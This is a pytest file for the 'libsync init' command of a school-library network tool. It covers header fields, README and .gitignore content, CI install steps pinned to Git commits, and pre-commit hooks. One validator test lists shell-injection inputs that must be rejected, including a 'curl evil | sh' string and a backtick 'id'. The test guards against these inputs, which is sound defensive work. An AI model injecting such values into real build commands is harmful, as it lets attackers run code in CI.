"""`libsync init` for publishing (#15 items 7, 10, 11): what the minutes' header needs (options or
questions), a CI install step that really installs libsync, a README that explains publishing,
and a .gitignore that keeps built sites out of Git. Real folders, real Git, a real venv."""

from __future__ import annotations

import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import git
import pytest
import yaml

from libsync import __version__
from libsync.errors import LibsyncError
from libsync.network import Network
from libsync.render.letterhead import committee, letterhead
from libsync.scaffold import (
    checkout_source,
    default_libsync_source,
    is_local_source,
    pip_requirement,
    source_of_install,
)

PROJECT = Path(__file__).resolve().parent.parent


def _network(root: Path) -> dict:
    return yaml.safe_load((root / "network.yaml").read_text(encoding="utf-8"))


def _install_steps(root: Path) -> dict[str, str]:
    """The `run:` of the step named 'Cài libsync' of each generated workflow."""
    out = {}
    for path in sorted((root / ".github" / "workflows").glob("*.yml")):
        workflow = yaml.safe_load(path.read_text(encoding="utf-8"))
        steps = [s for job in workflow["jobs"].values() for s in job.get("steps", []) if s.get("name") == "Cài libsync"]
        assert len(steps) <= 1
        if steps:
            out[path.name] = steps[0]["run"]
    return out


def test_init_writes_the_minutes_header_from_options(tmp_path, cli):
    target = tmp_path / "net"
    r = cli("init", target, "--library", "XS=Trường THCS Xuân Sơn", "--library", "HD=Trường THCS Hưng Đạo",
            "--authority", "PHÒNG GD&ĐT THÀNH PHỐ ĐÔNG TRIỀU", "--authority", "HD=UBND PHƯỜNG HƯNG ĐẠO",
            "--place", "XS=Xuân Sơn", "--place", "HD=Hưng Đạo",
            "--principal", "XS=Nguyễn Văn Thành", "--principal", "HD=Trần Thị Minh Hằng",
            "--librarian", "XS=Phạm Thị Thu Hà", "--librarian", "HD=Lê Thị Hồng Nhung", "--no-ask")
    assert r.exit_code == 0, r.output
    libs = {lib["code"]: lib for lib in _network(target)["libraries"]}
    assert libs["XS"]["authority"] == "PHÒNG GD&ĐT THÀNH PHỐ ĐÔNG TRIỀU"     # a bare value: every school …
    assert libs["HD"]["authority"] == "UBND PHƯỜNG HƯNG ĐẠO"                 # … CODE= for one
    assert (libs["XS"]["place"], libs["HD"]["place"]) == ("Xuân Sơn", "Hưng Đạo")
    assert libs["HD"]["principal"] == {"name": "Trần Thị Minh Hằng", "role": "Hiệu trưởng"}
    assert libs["XS"]["librarians"] == [{"name": "Phạm Thị Thu Hà", "role": "Nhân viên thư viện"}]
    assert [m["name"] for m in libs["XS"]["stocktake_committee"]] == ["Nguyễn Văn Thành", "Phạm Thị Thu Hà"]
    assert "Lưu ý" not in r.output                          # nothing left blank: no note
    # the minutes' header (render.letterhead) has everything it needs, committee included
    network = Network(_network(target))
    head = letterhead(network, "HD", "biên bản")
    assert head.issuer == ["UBND PHƯỜNG HƯNG ĐẠO", "TRƯỜNG THCS HƯNG ĐẠO"] and head.place == "Hưng Đạo"
    assert letterhead(network, "XS", "biên bản").issuer[0] == "PHÒNG GD&ĐT THÀNH PHỐ ĐÔNG TRIỀU"
    assert [m["role"] for m in committee(network, "XS", "biên bản")] == ["Chủ tịch hội đồng", "Thư ký hội đồng"]
    # what init writes, validate accepts
    assert cli("--repo", target, "validate").exit_code == 0


def test_init_names_the_fields_left_blank_and_refuses_an_ambiguous_name(tmp_path, cli):
    r = cli("init", tmp_path / "a", "--library", "XS=Trường THCS Xuân Sơn", "--place", "Xuân Sơn", "--no-ask")
    assert r.exit_code == 0, r.output
    assert "libraries[XS].authority" in r.output and "libraries[XS].principal" in r.output
    assert "libraries[XS].place" not in r.output
    assert "authority" not in _network(tmp_path / "a")["libraries"][0]       # left out, never written blank
    with pytest.raises(LibsyncError) as refused:        # so the minutes name the field, as init did
        letterhead(Network(_network(tmp_path / "a")), "XS", "biên bản")
    assert "libraries[XS].authority" in str(refused.value)
    r = cli("init", tmp_path / "b", "--library", "XS=Trường A", "--library", "HD=Trường B",
            "--principal", "Nguyễn Văn Thành", "--no-ask")
    assert r.exit_code == 2 and "MÃ=Họ tên" in r.output and not (tmp_path / "b").exists()


def test_init_asks_for_what_the_minutes_need(tmp_path, cli):
    answers = "\n".join([
        "XS=Trường THCS Xuân Sơn", "HD=Trường THCS Hưng Đạo", "",      # the schools, then an empty line
        "Mạng thư viện Đông Triều",                                      # the network's name
        "PHÒNG GD&ĐT THÀNH PHỐ ĐÔNG TRIỀU", "Xuân Sơn", "Nguyễn Văn Thành", "Phạm Thị Thu Hà",
        "", "Hưng Đạo", "Trần Thị Minh Hằng", "",                        # HD: the same authority; no librarian yet
    ]) + "\n"
    r = cli("init", tmp_path / "net", "--ask", input=answers)
    assert r.exit_code == 0, r.output
    assert "Cơ quan chủ quản" in r.output and "Họ tên hiệu trưởng" in r.output
    data = _network(tmp_path / "net")
    libs = {lib["code"]: lib for lib in data["libraries"]}
    assert data["network"]["name"] == "Mạng thư viện Đông Triều"
    assert libs["HD"]["authority"] == "PHÒNG GD&ĐT THÀNH PHỐ ĐÔNG TRIỀU"     # the answer given for XS
    assert libs["HD"]["place"] == "Hưng Đạo" and libs["HD"]["principal"]["name"] == "Trần Thị Minh Hằng"
    assert libs["HD"]["librarians"] == [] and "libraries[HD].librarians" in r.output


def test_readme_explains_publishing_and_gitignore_keeps_sites_out(tmp_path, cli):
    target = tmp_path / "net"
    assert cli("init", target, "--library", "MK1=Trường A", "--library", "MK2=Trường B", "--no-ask").exit_code == 0
    readme = (target / "README.md").read_text(encoding="utf-8")
    for step in ("Settings → Pages", "GitHub Actions", "libsync share --library MK1", "--share public",
                 "libsync site serve _site --host 0.0.0.0", "--port 8080", "mã QR", "`.gitignore`"):
        assert step in readme, step
    (target / "_site").mkdir()
    (target / "_site" / "index.html").write_text("x", encoding="utf-8")
    (target / "_site-xs").mkdir()
    (target / "_site-xs" / "index.html").write_text("x", encoding="utf-8")
    repo = git.Repo(target)
    assert not repo.is_dirty(untracked_files=True)          # both site folders are ignored
    assert repo.git.check_ignore("_site/index.html", "_site-xs/index.html").split() == [
        "_site/index.html", "_site-xs/index.html"]


def test_the_install_source_becomes_a_pinned_requirement(tmp_path):
    assert pip_requirement("https://github.com/so-gd/libsync@v0.2.0") == "libsync @ git+https://github.com/so-gd/libsync@v0.2.0"
    assert pip_requirement("git+https://example.org/x/libsync@abc123") == "libsync @ git+https://example.org/x/libsync@abc123"
    assert pip_requirement("git@github.com:so-gd/libsync.git@v1") == "libsync @ git+ssh://git@github.com/so-gd/libsync.git@v1"
    assert pip_requirement("git+file:///srv/libsync@v1") == "libsync @ git+file://localhost/srv/libsync@v1"
    assert pip_requirement(str(tmp_path)) == str(tmp_path.resolve())
    assert pip_requirement("libsync==0.1.0") == "libsync==0.1.0"
    # the editable checkout these tests run from: its commit at its origin, when it has a public one
    assert default_libsync_source() == checkout_source(PROJECT)
    for bad in ('x" ; curl evil | sh ; "', "${{ github.token }}", "a\nb", "`id`", " "):
        with pytest.raises(LibsyncError) as caught:
            pip_requirement(bad)
        assert caught.value.key == "init.bad_source"


def test_workflows_install_the_project_from_git_and_pass_actionlint(tmp_path, cli):
    target = tmp_path / "net"
    sha = "0123456789abcdef0123456789abcdef01234567"
    r = cli("init", target, "--library", "A1=Trường A", "--no-ask", "--libsync-source",
            f"https://github.com/so-gd/libsync@{sha}")
    assert r.exit_code == 0
    steps = _install_steps(target)
    assert set(steps) == {"pages.yml", "validate.yml"}
    expected = f'python -m pip install "libsync @ git+https://github.com/so-gd/libsync@{sha}"'
    assert set(steps.values()) == {expected} and 'pip install "libsync"' not in str(steps)
    assert expected.split("install ")[1] in r.output          # init says where CI installs from
    assert "ổ đĩa" not in r.output                            # a server: no warning
    actionlint = shutil.which("actionlint")
    assert actionlint
    files = [str(p) for p in (target / ".github" / "workflows").glob("*.yml")]
    run = subprocess.run([actionlint, "-no-color", *files], capture_output=True, text=True)
    assert run.returncode == 0, run.stdout + run.stderr


def test_the_generated_install_step_installs_libsync_in_a_fresh_venv(tmp_path, cli):
    """The workflow's own `run:` line, run as CI would (bash, `python` of a fresh venv), against a
    Git clone of this project pinned to its commit; then `libsync --version` from that venv."""
    clone = tmp_path / "libsync-src"
    git.Repo.clone_from(str(PROJECT), str(clone))
    sha = git.Repo(clone).head.commit.hexsha
    target = tmp_path / "net"
    r = cli("init", target, "--library", "A1=Trường A", "--no-ask", "--libsync-source", f"git+file://{clone}@{sha}")
    assert r.exit_code == 0, r.output
    steps = _install_steps(target)
    assert set(steps.values()) == {f'python -m pip install "libsync @ git+file://localhost{clone}@{sha}"'}

    venv = tmp_path / "venv"
    # the venv sees this machine's packages (no downloads of libsync's dependencies), not libsync's checkout
    subprocess.run([sys.executable, "-m", "venv", "--system-site-packages", str(venv)], check=True)
    env = {k: v for k, v in os.environ.items() if not k.startswith(("PYTHON", "VIRTUAL_ENV", "PIP_"))}
    env["PATH"] = f"{venv / 'bin'}{os.pathsep}{env.get('PATH', '')}"
    env["PIP_DISABLE_PIP_VERSION_CHECK"] = "1"
    run = subprocess.run(["bash", "-e", "-c", steps["pages.yml"]], cwd=target, env=env, capture_output=True,
                         text=True, timeout=600)
    assert run.returncode == 0, run.stdout[-3000:] + run.stderr[-3000:]
    installed = subprocess.run([str(venv / "bin" / "python"), "-c", "import libsync; print(libsync.__file__)"],
                               cwd=tmp_path, env=env, capture_output=True, text=True)
    assert installed.stdout.strip().startswith(str(venv)), installed.stdout + installed.stderr
    version = subprocess.run(["libsync", "--version"], cwd=target, env=env, capture_output=True, text=True)
    assert version.returncode == 0 and __version__ in version.stdout, version.stdout + version.stderr
    assert shutil.which("libsync", path=env["PATH"]) == str(venv / "bin" / "libsync")


def _checkout(folder: Path, origin: str | None = None) -> tuple[Path, str]:
    """A Git checkout with one commit (and ``origin`` when given), as a libsync source folder."""
    repo = git.Repo.init(folder, initial_branch="main")
    with repo.config_writer() as cw:
        cw.set_value("user", "name", "Tổ tin học")
        cw.set_value("user", "email", "tin@example.invalid")
    (folder / "pyproject.toml").write_text("[project]\nname = 'libsync'\n", encoding="utf-8")
    repo.git.add("--all")
    repo.git.commit("-m", "x")
    if origin:
        repo.create_remote("origin", origin)
    return folder, repo.head.commit.hexsha


def test_an_editable_install_pins_its_checkouts_commit_at_a_public_origin_only(tmp_path):
    def editable(folder: Path) -> dict:
        return {"dir_info": {"editable": True}, "url": folder.as_uri()}

    bare, _ = _checkout(tmp_path / "bare")
    assert source_of_install(editable(bare)) is None                       # no origin: unknown
    local, _ = _checkout(tmp_path / "local", origin=str(tmp_path / "bare"))
    assert source_of_install(editable(local)) is None                      # an origin on this computer
    token, _ = _checkout(tmp_path / "token", origin="https://ha:ghp_secret@github.com/so-gd/libsync.git")
    assert source_of_install(editable(token)) is None                      # never a token in a workflow
    https, sha = _checkout(tmp_path / "https", origin="https://github.com/so-gd/libsync.git")
    assert source_of_install(editable(https)) == f"https://github.com/so-gd/libsync.git@{sha}"
    assert pip_requirement(source_of_install(editable(https))) == f"libsync @ git+https://github.com/so-gd/libsync.git@{sha}"
    ssh, sha = _checkout(tmp_path / "ssh", origin="git@github.com:so-gd/libsync.git")
    assert pip_requirement(source_of_install(editable(ssh))) == f"libsync @ git+ssh://git@github.com/so-gd/libsync.git@{sha}"
    # installed (not editable) from a folder: what was installed is not that folder's HEAD
    assert source_of_install({"dir_info": {}, "url": https.as_uri()}) is None
    # installed by pip from Git: that commit, as before
    assert source_of_install({"url": "https://github.com/so-gd/libsync", "vcs_info": {"vcs": "git", "commit_id": sha}}) \
        == f"https://github.com/so-gd/libsync@{sha}"


def test_init_with_no_known_source_says_so_and_writes_a_step_that_stops_clearly(tmp_path, cli, monkeypatch):
    """Here: an editable install from a checkout without a public origin (as this project's own)."""
    import libsync.scaffold as scaffold

    checkout, _ = _checkout(tmp_path / "libsync-src")
    monkeypatch.setattr(scaffold, "_install_record", lambda: {"dir_info": {"editable": True}, "url": checkout.as_uri()})
    target = tmp_path / "net"
    r = cli("init", target, "--library", "A1=Trường A", "--no-ask")
    assert r.exit_code == 0, r.output
    assert "Chưa biết CI của kho mới cài libsync từ đâu" in r.stderr and "--libsync-source" in r.stderr
    assert "pip install" not in r.stdout                     # no install line is claimed
    steps = _install_steps(target)
    assert set(steps) == {"pages.yml", "validate.yml"}
    for run in steps.values():
        assert [line for line in run.splitlines() if line.strip().startswith("python")] == []   # installs nothing
        done = subprocess.run(["bash", "-e", "-c", run], cwd=target, capture_output=True, text=True, timeout=60)
        assert done.returncode == 1
        assert done.stdout.startswith("::error title=libsync-source::Cần đặt libsync-source: chưa biết cài libsync")
    actionlint = shutil.which("actionlint")
    assert actionlint
    files = [str(p) for p in (target / ".github" / "workflows").glob("*.yml")]
    lint = subprocess.run([actionlint, "-no-color", *files], capture_output=True, text=True)
    assert lint.returncode == 0, lint.stdout + lint.stderr
    # the old name of the option still works, out of sight in --help
    r = cli("init", tmp_path / "net2", "--library", "A1=Trường A", "--no-ask", "--pip-spec", "https://github.com/x/libsync@v1")
    assert r.exit_code == 0 and "libsync @ git+https://github.com/x/libsync@v1" in r.stdout


def test_a_source_on_this_computer_is_warned_about(tmp_path, cli):
    folder, sha = _checkout(tmp_path / "libsync-src")
    for source in (str(folder), f"git+file://{folder}@{sha}"):
        target = tmp_path / f"net-{len(source)}"
        r = cli("init", target, "--library", "A1=Trường A", "--no-ask", "--libsync-source", source)
        assert r.exit_code == 0, r.output
        assert "Máy chạy CI của GitHub không thấy ổ đĩa của bạn" in r.stderr, r.stderr
    assert is_local_source("/srv/libsync-0.1.0-py3-none-any.whl") and is_local_source("./libsync")
    assert not is_local_source("libsync @ git+https://github.com/x/libsync@v1") and not is_local_source("libsync==0.1.0")


@pytest.mark.parametrize("lang", ["vi", "en"])
def test_init_help_shows_the_source_option_whole_at_80_columns(lang):
    env = {**os.environ, "COLUMNS": "80", "LIBSYNC_LANG": lang}
    out = subprocess.run([sys.executable, "-m", "libsync", "init", "--help"], capture_output=True, text=True,
                         env=env, timeout=120).stdout
    assert "--libsync-source " in out and "--pip-spec" not in out   # the old alias works, unshown
    assert not re.search(r"[\w/.@-]…", out), out                    # nothing cut short ('--pip-…', 'v0.1…')
    assert max(len(line) for line in out.splitlines()) <= 80
    assert "@commit" in out


def test_pre_commit_hooks_name_no_tag_that_may_not_exist(tmp_path, cli):
    """The hooks came from the project at tag v0.1.0, which does not exist: they come from where
    the CI installs libsync (a Git URL and ref), else run the libsync installed here."""
    hooks_file = yaml.safe_load((PROJECT / ".pre-commit-hooks.yaml").read_text(encoding="utf-8"))
    shipped = {h["id"]: h for h in hooks_file}
    sha = "0123456789abcdef0123456789abcdef01234567"
    r = cli("init", tmp_path / "git", "--library", "A1=Trường A", "--no-ask", "--libsync-source",
            f"https://github.com/so-gd/libsync@{sha}")
    assert r.exit_code == 0, r.output
    config = yaml.safe_load((tmp_path / "git" / ".pre-commit-config.yaml").read_text(encoding="utf-8"))
    assert config["repos"] == [{"repo": "https://github.com/so-gd/libsync", "rev": sha,
                                "hooks": [{"id": "libsync-validate"}, {"id": "libsync-fmt"}]}]
    folder, _ = _checkout(tmp_path / "libsync-src")
    target = tmp_path / "local"
    r = cli("init", target, "--library", "A1=Trường A", "--no-ask", "--libsync-source", str(folder))
    assert r.exit_code == 0, r.output
    config = yaml.safe_load((target / ".pre-commit-config.yaml").read_text(encoding="utf-8"))
    assert [repo["repo"] for repo in config["repos"]] == ["local"] and "rev" not in config["repos"][0]
    hooks = {h["id"]: h for h in config["repos"][0]["hooks"]}
    assert set(hooks) == set(shipped)
    for hook_id, hook in hooks.items():
        assert hook["language"] == "system"
        assert (hook["entry"], hook["files"], hook["pass_filenames"]) == (
            shipped[hook_id]["entry"], shipped[hook_id]["files"], shipped[hook_id]["pass_filenames"])
        # what pre-commit would run: the entry with the files its pattern picks, in the new repository
        picked = [p.relative_to(target).as_posix() for p in target.rglob("*.yaml")
                  if re.search(hook["files"], p.relative_to(target).as_posix())]
        assert picked == ["network.yaml"]
        done = subprocess.run([sys.executable, "-m", "libsync", *hook["entry"].split()[1:], *picked], cwd=target,
                              capture_output=True, text=True, timeout=120)
        assert done.returncode == 0, done.stdout + done.stderr
